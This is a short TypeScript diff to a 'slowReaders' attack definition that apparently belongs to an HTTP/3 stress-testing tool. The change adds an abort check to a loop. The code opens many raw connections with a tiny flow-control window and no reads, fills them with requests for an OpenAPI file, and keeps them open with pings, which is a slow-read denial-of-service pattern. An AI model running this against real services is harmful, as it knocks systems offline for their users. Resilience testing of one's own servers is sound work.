@@ -13,7 +13,7 @@ export const slowReaders: Attack = {
       Array.from({ length: connections }, async () => {
         while (!signal.aborted) {
           const client = await RawHttp3.open(target, { windowBytes: 2000, reads: false });
-          while (client.hasRoom) client.request(get("/v1/openapi.json", target), true);
+          while (client.hasRoom && !signal.aborted) client.request(get("/v1/openapi.json", target), true);
           while (!client.isClosed && !signal.aborted) {
             client.ping();
             await sleep(1000, undefined, { signal }).catch(() => undefined);
